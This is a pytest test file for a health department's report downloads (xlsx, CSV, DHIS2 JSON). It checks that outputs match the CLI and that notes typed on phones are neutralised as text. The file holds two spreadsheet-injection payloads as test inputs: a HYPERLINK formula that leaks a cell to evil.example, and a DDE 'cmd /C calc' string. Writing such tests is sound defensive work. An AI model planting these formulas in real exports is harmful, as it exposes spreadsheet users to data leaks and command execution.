"""The reports a province downloads over real HTTP: what a phone typed stays text in them; the
cover, labels, year to date and DHIS2 uids, byte for byte what `pcmd report` writes."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import zipfile
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select

from pcmd.db.engine import transaction
from pcmd.db.models import SubmissionVersion
from pcmd.ingest.files import FileStore
from pcmd.ingest.incoming import Incoming
from pcmd.ingest.submit import ingest_with_retry
from pcmd.pipeline.run import run_pipeline
from pcmd.settings import Settings, load_settings
from tests.cli.test_main import pcmd
from tests.server.collect import new_id, outreach_xml, post
from tests.server.web.conftest import Site, signed_in

EXAMPLE = Path(__file__).parents[3] / "docs" / "dhis2-mapping.example.csv"
REPORT_TABLE = """
[report]
parent_agency = "UBND tỉnh Quảng Ngãi"
agency = "Sở Y tế"
symbol = "BC-SYT"
place = "Quảng Ngãi"
recipients = ["Như trên", "Lưu: VT, BTXH"]
signer_title = "Giám đốc"
dhis2_mapping = "{mapping}"
"""


@pytest.fixture
def settings(settings: Settings, tmp_path: Path) -> Settings:
    """The test's settings with a [report] table and the example DHIS2 mapping, from a
    pcmd.toml that `pcmd report` reads too (PCMD_CONFIG)."""
    config = tmp_path / "pcmd.toml"
    config.write_text(REPORT_TABLE.format(mapping=EXAMPLE), encoding="utf-8")
    report = load_settings(config_file=config, environ={}).report
    return dataclasses.replace(settings, report=report)


# What a note typed on a phone could try: a link that leaks the sheet, and a DDE command.
NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _send(site: Site, notes: str, students: int) -> str:
    instance_id = new_id()
    xml = outreach_xml(instance_id, students=students).replace(
        b"<notes/>", f"<notes>{escape(notes)}</notes>".encode()
    )
    with httpx.Client(timeout=30) as phone:
        assert post(phone, site.server, xml).status_code == 201
    return instance_id


def test_reports_download__formula_in_a_note__text_in_xlsx_and_csv(site: Site) -> None:
    first = _send(site, NOTE, 12)
    second = _send(site, NAME, 7)
    with signed_in(site, "hoa.qng") as client:
        query = {"org": "51", "period": "2026"}
        xlsx = client.get("/reports/download", params={**query, "format": "xlsx"})
        zipped = client.get("/reports/download", params={**query, "format": "csv"})
    assert (xlsx.status_code, zipped.status_code) == (200, 200)

    # xlsx: no formula anywhere in the workbook; the notes are string cells, counts numbers
    archive = zipfile.ZipFile(io.BytesIO(xlsx.content))
    sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    names = load_workbook(io.BytesIO(xlsx.content)).sheetnames
    assert len(sheets) == len(names)
    assert {"Bìa", "Chỉ tiêu", "pcmd_outreach", "Theo xã", "Từ điển (Fields)"} <= set(names)
    assert [n for n in sheets if "<f>" in archive.read(n).decode()] == []
    sheet = load_workbook(io.BytesIO(xlsx.content))["pcmd_outreach"]
    header = [c.value for c in sheet[1]]
    rows = {row[header.index("Mã phiếu")].value: row for row in sheet.iter_rows(min_row=2)}
    note, students = (rows[first][header.index(c)] for c in ("Ghi chú", "Học sinh, sinh viên"))
    assert (note.value, note.data_type) == (NOTE, "s")
    assert (students.value, students.data_type) == (12, "n")
    assert rows[second][header.index("Ghi chú")].value == NAME

    # CSV: the same cells begin with a quote, so a spreadsheet shows them as text
    table = zipfile.ZipFile(io.BytesIO(zipped.content)).read("pcmd_outreach.csv")
    lines = list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"))))
    by_id = {line["Mã phiếu"]: line for line in lines}
    assert by_id[first]["Ghi chú"] == "'" + NOTE
    assert by_id[first]["Học sinh, sinh viên"] == "12"
    assert by_id[second]["Ghi chú"] == "'" + NAME

    # what the phone sent is kept as it was typed
    with transaction(site.server.engine) as s:
        stored: list[dict[str, Any]] = list(s.scalars(select(SubmissionVersion.data)))
    assert {d.get("notes") for d in stored} >= {NOTE, NAME}


def _members(content: bytes) -> dict[str, bytes]:
    """An xlsx or zip by member, without docProps/core.xml (its creation time)."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {n: archive.read(n) for n in archive.namelist() if n != "docProps/core.xml"}


def test_reports_download__quarter_and_month__cover_labels_year_to_date_as_the_cli(
    site: Site, settings: Settings, engine: Engine, tmp_path: Path
) -> None:
    """Besides the site's outreach of 20 November 2026 (37 students + 5 others), one of
    10 March 2026 (20 + 5): 2026Q4 has 1 activity and 42 contacts, its year to date 2 and 67;
    March's year to date is March itself (1, 25)."""
    march = outreach_xml(new_id(), students=20).replace(
        b"<activity_date>2026-11-20</activity_date>", b"<activity_date>2026-03-10</activity_date>"
    )
    store = FileStore(settings.data_dir / "attachments")
    ingest_with_retry(engine, store, Incoming(xml=march, source="openrosa"))
    run_pipeline(engine)
    got: dict[tuple[str, str], bytes] = {}
    with signed_in(site, "hoa.qng") as client:
        for period in ("2026Q4", "202603"):
            for fmt in ("xlsx", "csv", "dhis2"):
                response = client.get(
                    "/reports/download", params={"org": "51", "period": period, "format": fmt}
                )
                assert response.status_code == 200, response.text
                got[(period, fmt)] = response.content

    book = load_workbook(io.BytesIO(got[("2026Q4", "xlsx")]))
    today = dt.date.today()
    cover = book["Bìa"]
    assert [cover["A1"].value, cover["A2"].value, cover["A4"].value] == [
        "UBND TỈNH QUẢNG NGÃI",
        "SỞ Y TẾ",
        "Số:      /BC-SYT",
    ]
    assert [cover["D1"].value, cover["D2"].value] == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
    ]
    month = f"{today.month:02d}" if today.month <= 2 else str(today.month)
    assert cover["D4"].value == f"Quảng Ngãi, ngày {today.day:02d} tháng {month} năm {today.year}"
    assert cover["A7"].value == (
        "Kết quả thực hiện Chương trình phòng, chống mại dâm quý IV năm 2026"
    )

    sheet = book["Chỉ tiêu"]
    table = {row[0].value: [c.value for c in row] for row in sheet.iter_rows(min_row=4)}
    # own period: numerator, …; then year to date: numerator, denominator, value, target, status
    assert (table["HD1"][2], table["HD1"][8:11]) == (1, [2, None, 2])
    assert (table["HD2"][2], table["HD2"][8:11]) == (42, [67, None, 67])
    assert sheet.cell(2, 9).value == "Lũy kế từ đầu năm (2026-01..2026-12)"
    march_sheet = load_workbook(io.BytesIO(got[("202603", "xlsx")]))["Chỉ tiêu"]
    march_table = {r[0].value: [c.value for c in r] for r in march_sheet.iter_rows(min_row=4)}
    assert (march_table["HD2"][2], march_table["HD2"][8]) == (25, 25)

    outreach = book["pcmd_outreach"]
    headings = [c.value for c in outreach[1]]
    for label in (
        "Ngày tổ chức hoạt động",
        "Hình thức tuyên truyền",
        "Nội dung tuyên truyền",
        "Học sinh, sinh viên",
        "Xã, phường, đặc khu",
    ):
        assert label in headings
    assert "reach/n_students" not in headings
    row = dict(zip(headings, outreach[2], strict=True))
    assert row["Hình thức tuyên truyền"].value == "Hội nghị, tọa đàm, nói chuyện chuyên đề"
    assert row["Nội dung tuyên truyền"].value == (
        "Pháp luật về phòng, chống mại dâm; "
        "Phòng, chống HIV/AIDS và các bệnh lây truyền qua đường tình dục"
    )
    assert row["Cơ quan, tổ chức báo cáo"].value == "Hội Liên hiệp Phụ nữ"
    assert (row["Học sinh, sinh viên"].value, row["Học sinh, sinh viên"].data_type) == (37, "n")
    assert isinstance(row["Số tờ rơi, tài liệu, áp phích đã phát"].value, int)
    assert row["Ngày tổ chức hoạt động"].value == dt.datetime(2026, 11, 20)
    assert row["Ngày tổ chức hoạt động"].is_date
    assert row["Xã, phường, đặc khu"].value == "Phường Cẩm Thành"
    assert row["Trạng thái duyệt"].value == "Mới nhận"
    fields = {r[2].value: r for r in book["Từ điển (Fields)"].iter_rows(min_row=2)}
    assert fields["reach/n_students"][1].value == "Học sinh, sinh viên"
    assert fields["reach/n_students"][3].value == "int"

    body = json.loads(got[("2026Q4", "dhis2")])
    assert (body["dataSet"], body["period"], body["orgUnit"]) == (
        "pBOMPrpg1QX",
        "2026Q4",
        "DiszpKrYNg8",
    )
    assert body["completeDate"] == today.isoformat()
    assert {
        "dataElement": "pikOziyCXbM",
        "period": "2026Q4",
        "orgUnit": "DiszpKrYNg8",
        "value": "42",
        "categoryOptionCombo": "Prlt0C1RF0s",
    } in body["dataValues"]
    assert {v["orgUnit"] for v in body["dataValues"]} <= {"DiszpKrYNg8", "Rp268JB6Ne4"}

    # `pcmd report` with the same pcmd.toml writes the same bytes (but the xlsx's timestamp)
    env = {"PCMD_DATABASE_URL": settings.database_url, "PCMD_CONFIG": str(tmp_path / "pcmd.toml")}
    for (period, fmt), content in got.items():
        suffix = {"xlsx": "xlsx", "csv": "zip", "dhis2": "json"}[fmt]
        out = tmp_path / f"bao-cao-{period}.{suffix}"
        done = pcmd("report", "--period", period, "--org", "51", "--out", str(out), env=env)
        assert done.returncode == 0, done.stderr
        if fmt == "dhis2":
            assert out.read_bytes() == content
        else:
            assert _members(out.read_bytes()) == _members(content)
